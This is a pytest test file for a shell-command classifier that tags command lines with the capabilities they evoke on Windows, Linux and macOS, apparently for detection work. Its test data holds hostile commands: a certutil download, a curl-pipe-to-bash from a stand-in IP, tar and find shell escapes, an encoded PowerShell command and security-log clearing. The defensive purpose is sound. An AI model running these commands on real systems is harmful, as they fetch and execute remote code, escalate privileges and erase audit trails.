from collections import Counter

import numpy as np
import pytest
from _classifier_folds import Corpus
from _classifier_models import Grams, Trees
from _knowledge import Knowledge, read_entries
from hypothesis import given
from hypothesis import strategies as st

from cmdclf.classify.gram_counts import CountedGrams, with_abilities

EVOKED = [
    ("windows", "certutil.exe -urlcache -split -f http://198.51.100.7/a.txt a.exe", {"download"}, {"decode"}),
    ("windows", "certutil -decode a.txt a.exe", {"decode"}, {"download"}),
    ("windows", "schtasks /create /tn a /tr b.exe /sc onlogon", {"schedule", "autostart"}, {"schedule-delete"}),
    ("windows", "net user bob /add", {"user-add"}, {"service-stop", "group-add"}),
    ("linux", "tar cf /dev/null a --checkpoint=1 --checkpoint-action=exec=/bin/sh", {"shell-escape"}, {"unarchive"}),
    ("linux", "tar -czf a.tgz /srv", {"archive"}, {"shell-escape"}),
    ("linux", "sudo -u bob find . -exec /bin/sh -p ;", {"sudo-run", "shell-escape", "search"}, {"delete"}),
    ("linux", "curl -s http://203.0.113.9/x | bash", {"http-request", "pipe-run"}, {"upload"}),
    ("linux", "apt-get install -y nginx", {"package-install"}, {"package-remove", "shell-escape"}),
    ("linux", "systemctl status sshd", {"service-status"}, {"service-stop"}),
    ("macos", "osascript -e 'do shell script \"id\"'", {"code", "shell-escape"}, {"download"}),
    ("macos", "launchctl load -w /Library/LaunchDaemons/a.plist", {"autostart"}, {"service-stop"}),
]


@pytest.fixture(scope="module")
def knowledge():
    return Knowledge.bundled()


@pytest.mark.parametrize(("platform", "line", "some", "none"), EVOKED)
def test_a_line_evokes_what_its_programs_can_do_there(knowledge, platform, line, some, none):
    found = set(knowledge.of(line, platform))
    assert some <= found
    assert not none & found


def test_an_ordinary_word_is_a_program_only_where_a_command_stands(knowledge):
    assert "search" in knowledge.of("cd /srv && find . -name x", "linux")
    assert "search" in knowledge.of("TMP=/x /usr/bin/find . -name x", "linux")
    assert "search" not in knowledge.of("echo what we find there", "linux")
    assert "sudo-run" not in knowledge.of("echo pseudosudo sudo-less", "linux")


def test_words_count_behind_the_name_and_by_themselves(knowledge):
    assert "download" in knowledge.of("certutil -urlcache x", "windows")
    assert "download" not in knowledge.of("echo urlcache & certutil -hashfile x", "windows")
    assert "download" not in knowledge.of("certutil -hashfile myurlcached", "windows")


def test_what_a_line_hides_is_read_too(knowledge):
    hidden = "powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsACAAfAAgAG8AdQB0AC0AaABvAHMAdAA="
    assert {"whoami", "privileges", "encoded-command"} <= set(knowledge.of(hidden, "windows"))


def test_entries_are_of_their_platform_and_all_are_asked_where_it_is_unknown(knowledge):
    line = "wevtutil cl Security; launchctl list; journalctl --rotate"
    found = {name: set(knowledge.of(line, name)) for name in ("windows", "linux", "macos", "")}
    assert found["windows"] == {"log-clear"}
    assert "service-list" in found["macos"] - found["linux"]
    assert found["windows"] | found["linux"] | found["macos"] <= found[""]


def test_the_data_is_broad_sound_and_not_of_attacks_alone(knowledge):
    entries = read_entries()
    rows = [ability for entry in entries for ability, *_ in entry["can"]]
    assert len(entries) >= 350
    assert len(rows) >= 900
    assert set(rows) == set(knowledge.abilities)
    # A program stands once for each of its platforms, but where two files say different things of it.
    assert max(Counter(name for entry in entries for name in entry["names"]).values()) <= 4
    for entry in entries:
        assert set(entry) <= {"names", "platform", "command", "can"}
        words = [
            *entry["names"],
            *(word for can in entry["can"] for alternative in can for word in alternative.split()),
        ]
        assert all(word == word.lower() and "*" not in word[1:-1] for word in words)
        assert set(entry.get("platform", ())) <= {"windows", "linux", "macos"}
    assert sum("technique" not in about for about in knowledge.about.values()) > len(knowledge.about) / 2
    assert all(set(about) <= {"can", "technique"} and about["can"] for about in knowledge.about.values())


@given(st.lists(st.text(st.sampled_from("find -execsh/;|&$='\"\\ certutil*sudo\n~é\0")), min_size=1, max_size=6))
def test_any_text_is_read_and_a_line_by_itself_as_in_a_batch(lines):
    knowledge = Knowledge.bundled()
    every = knowledge.matrix(lines, np.array(["linux"] * len(lines)))
    assert every.shape == (len(lines), len(knowledge.abilities))
    for i, line in enumerate(lines):
        assert [knowledge.abilities[k] for k in every[i].indices] == knowledge.of(line, "linux")


def test_models_see_abilities_beside_what_they_see_without():
    lines = [f"certutil -urlcache -f a{n}" for n in range(40)] + [f"certutil -hashfile a{n}" for n in range(40)]
    corpus = Corpus(lines, np.array(["windows"] * 80))
    y = np.arange(80) < 40
    x = with_abilities(corpus.counts(True), corpus.abilities)
    assert x[:, : corpus.counts(True).shape[1]].nnz == corpus.counts(True).nnz
    assert x.nnz == corpus.counts(True).nnz + corpus.abilities.nnz
    groups = np.arange(80).astype(str)
    model = Grams(abilities=True).fit(corpus.all(), y, groups)
    scores = model.scores(corpus.all())
    assert scores[y].min() > scores[~y].max()
    again = Grams(abilities=True).restore(model.arrays())
    assert np.allclose(again.scores(corpus.all()), scores, atol=1e-4)
    assert not np.allclose(Grams().fit(corpus.all(), y, groups).scores(corpus.all()), scores)
    assert isinstance(model._model, CountedGrams)
    assert Trees(abilities=3).fit(corpus.all(), y, groups).scores(corpus.all()).shape == (80,)
